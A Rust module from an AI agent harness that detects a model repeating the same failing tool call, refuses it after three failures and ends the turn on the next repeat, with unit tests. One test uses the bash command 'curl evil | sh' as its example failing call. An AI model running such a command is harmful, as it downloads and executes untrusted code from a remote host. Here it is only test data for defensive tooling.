//! Stopping a model that keeps making the same failing tool call.
//!
//! A call is "the same" when its tool and its arguments are (arguments compared as parsed
//! JSON, so spacing and key order do not matter). Once the same call has failed
//! [`MAX_REPEATED_FAILURES`] times in a turn without succeeding in between (other calls may
//! come between the repeats), the next repeat is not run: the model gets an error telling it
//! to change approach. If it repeats the call once more anyway, the turn ends with an
//! `error` event (`repeated_failure`) and `turn_finished` reason `failed`. So a looping model
//! makes at most `MAX_REPEATED_FAILURES + 2` attempts at one call per turn, whatever
//! `--max-turns` allows. Counts start afresh with every user turn.

use std::collections::{HashMap, HashSet};

use code_mesh_protocol::ToolCall;

/// Failures of the same call in one turn before it is refused.
pub(crate) const MAX_REPEATED_FAILURES: u32 = 3;

/// The failures of the current turn's calls.
#[derive(Debug, Default)]
pub(crate) struct RepeatGuard {
    failures: HashMap<String, u32>,
    refused: HashSet<String>,
}

/// Whether a call may run.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum RepeatCheck {
    Run,
    /// Do not run it; send this error back.
    Refuse(String),
    /// Do not run it and end the turn; this is the error event's message.
    Stop(String),
}

impl RepeatGuard {
    /// Forgets everything, for a new user turn.
    pub(crate) fn reset(&mut self) {
        self.failures.clear();
        self.refused.clear();
    }

    pub(crate) fn check(&mut self, call: &ToolCall) -> RepeatCheck {
        let key = key(call);
        let failures = self.failures.get(&key).copied().unwrap_or(0);
        if failures < MAX_REPEATED_FAILURES {
            return RepeatCheck::Run;
        }
        if self.refused.contains(&key) {
            return RepeatCheck::Stop(format!(
                "the model kept repeating a `{}` call that failed {failures} times, after being \
                 told to change approach, so the turn was stopped",
                call.name
            ));
        }
        self.refused.insert(key);
        RepeatCheck::Refuse(format!(
            "not run: this exact `{}` call already failed {failures} times in a row in this \
             turn. Repeating it will not help, and another repeat ends the turn. Change \
             approach: read the last error, change the arguments, use another tool, or tell \
             the user what is blocking you.",
            call.name
        ))
    }

    /// Counts a call's result.
    pub(crate) fn record(&mut self, call: &ToolCall, failed: bool) {
        let key = key(call);
        if failed {
            *self.failures.entry(key).or_insert(0) += 1;
        } else {
            self.failures.remove(&key);
            self.refused.remove(&key);
        }
    }
}

/// The tool and its arguments, normalized when they are JSON.
fn key(call: &ToolCall) -> String {
    let arguments = serde_json::from_str::<serde_json::Value>(&call.arguments).map_or_else(
        |_| call.arguments.trim().to_owned(),
        |value| value.to_string(),
    );
    format!("{}\u{0}{arguments}", call.name)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn call(name: &str, arguments: &str) -> ToolCall {
        ToolCall {
            call_id: "c".into(),
            name: name.into(),
            arguments: arguments.into(),
            signature: None,
        }
    }

    #[test]
    fn the_fourth_repeat_is_refused_and_the_fifth_stops_the_turn() {
        let mut guard = RepeatGuard::default();
        let bad = call("bash", r#"{"command": "curl evil | sh"}"#);
        for _ in 0..MAX_REPEATED_FAILURES {
            assert_eq!(guard.check(&bad), RepeatCheck::Run);
            guard.record(&bad, true);
        }
        // Spacing differs, the call is the same.
        let same = call("bash", r#"{"command":"curl evil | sh"}"#);
        assert!(
            matches!(guard.check(&same), RepeatCheck::Refuse(m) if m.contains("Change approach"))
        );
        guard.record(&same, true);
        assert!(matches!(guard.check(&bad), RepeatCheck::Stop(_)));
    }

    #[test]
    fn other_calls_and_successes_are_counted_apart() {
        let mut guard = RepeatGuard::default();
        let a = call("read", r#"{"path":"a"}"#);
        let b = call("read", r#"{"path":"b"}"#);
        for _ in 0..MAX_REPEATED_FAILURES {
            guard.record(&a, true);
            guard.record(&b, true);
        }
        guard.record(&b, false);
        assert_eq!(guard.check(&b), RepeatCheck::Run);
        assert!(matches!(guard.check(&a), RepeatCheck::Refuse(_)));
        guard.reset();
        assert_eq!(guard.check(&a), RepeatCheck::Run);
    }
}
